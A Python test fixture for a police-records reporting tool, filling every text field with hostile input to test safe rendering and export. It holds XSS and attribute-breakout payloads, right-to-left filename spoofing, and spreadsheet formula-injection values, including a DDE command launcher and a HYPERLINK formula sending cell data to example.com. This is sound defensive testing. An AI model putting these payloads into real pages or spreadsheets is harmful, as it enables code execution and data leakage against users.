"""A run whose every text tries to mislead a reader or to break a page."""

from __future__ import annotations

import copy
from collections.abc import Mapping

from tests.reports.sample import Plain, findings, row, run, screened

HOSTILE = {
    "markup": "<script>alert('x')</script></noscript><img src=x onerror=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "template": "{{ 7 * 7 }}{% raw %} [bold red]rich[/bold red] [link=https://example.com]",
    "right to left": "P100\u202egnp.exe\u2066 שלום",
    "control": "a\0b\x1b[31mred\x9b2J\r\nnext\x85line\u2028end",
    "invisible": "P1\u200b00\u00a0 \ufeff\U000e0041\ud800",
    "piled": "z" + "\u0334" * 500,
    "emoji": "👩\u200d👮 🚔",
    "long": "7" * 100_000,
    "unbroken": "W" * 239,
}
"""What a cell may hold to mislead a reader or to break a page."""

SPREADSHEET = {
    "formula": '=HYPERLINK("https://example.com/?x="&A1,"open")',
    "after spaces": "  =1+1",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1;1)",
    "tab": "\t=1+1",
    "line end": "\r\n=cmd|' /C calc'!A0",
    "wide": "＝1+1",
    "address": "https://example.com/a?b=c#d",
    "rich": "<r><rPr><b/></rPr><t>x</t></r><si/></r>",
}
"""What a cell may hold to make a spreadsheet compute, link or lose its way."""

TEXTS = (
    "incident_id", "person_id", "agency", "district", "citation", "offense", "charge_id", "arrest_id", "officer_id",
    "title", "statement",
)  # fmt: skip

GROUPS = {
    "district": "district",
    "officer": "officer_id",
    "race": "race",
    "gender": "gender",
    "age_band": "age_band",
}
"""The lists of a summary that hold text of the record, with the key of it."""

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
"""What a spreadsheet may take for the start of a formula."""


def hostile_finding(finding: Plain, text: str) -> Plain:
    """The finding with `text` wherever a record, a file's name or a pack brings text."""
    found = {**copy.deepcopy(finding), **dict.fromkeys(TEXTS, text), "person_key": "id"}
    found["criteria"] = dict.fromkeys(found["criteria"], text)
    witness = row("charges", 12, f"{text}.csv", citation=text, name="unequal", level=None)
    for told in found["conditions"]:
        told |= {"evidence": [witness], "evidence_total": 1, "says": text}
    return found


def hostile_run(texts: Mapping[str, str] = HOSTILE) -> tuple[list[Plain], Plain, Plain, list[Plain]]:
    """A run in which every text that a record, a file name, a mapping or a pack can bring is one of these ten."""
    _, summary, coverage, packs = run()
    first, second, *_ = texts.values()
    found = [hostile_finding(f, text) for f, text in zip(findings(), texts.values(), strict=True)]
    every, counted = " ".join(texts.values()), [{"value": t, "count": 1} for t in texts.values()]
    summary["export"] |= dict.fromkeys(("mapping", "jurisdiction"), second) | {"notes": [every]}
    summary["policies"][0]["title"] = every
    summary["what_if"] = ["sf-2017"]
    rule = summary["policies"][0]["rules"][0]["rule"]
    for by, key in GROUPS.items():
        summary["policies"][0][f"by_{by}"] = [
            {"rule": rule, key: text, "breach": 2, "possible": 1, "applied": 20, "kept": 18}
            for text in (*texts.values(), None)
        ]
    coverage["files"][0] |= {"file": every, "rejected": {first: 1}}
    coverage["files_not_read"] = [{"file": every, "why": every}]
    coverage["citations"]["unreadable"] = [
        {"citation": c["value"], "why": "unclear", "count": 1} for c in counted
    ]
    coverage["tables"]["arrests"]["columns"]["basis"]["unrecognised"] = counted
    coverage["failed"] = [every]
    coverage["screened"] = [screened(every, (every, True, False), (every, None, True), unclear=["protected"])]
    packs[0] |= dict.fromkeys(("title", "authority", "instrument", "version"), every) | {"caveats": [every]}
    packs[0]["clauses"][0] |= dict.fromkeys(("id", "text", "source", "confidence"), every)
    packs[0]["untested"][0] |= dict.fromkeys(("what", "why"), every)
    return found, summary, coverage, packs
